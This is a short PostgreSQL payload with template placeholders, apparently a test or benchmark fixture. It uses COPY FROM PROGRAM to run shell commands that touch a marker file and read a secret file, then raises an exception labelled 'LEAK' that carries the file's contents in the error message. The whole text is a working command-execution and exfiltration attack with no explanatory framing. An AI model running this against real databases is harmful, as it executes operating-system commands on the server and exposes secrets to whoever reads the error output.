CREATE TABLE said (line text);
COPY said FROM PROGRAM 'touch {mark}; cat {secret}';
DO $$ BEGIN RAISE EXCEPTION 'LEAK %', (SELECT string_agg(line, ' ') FROM said); END $$;
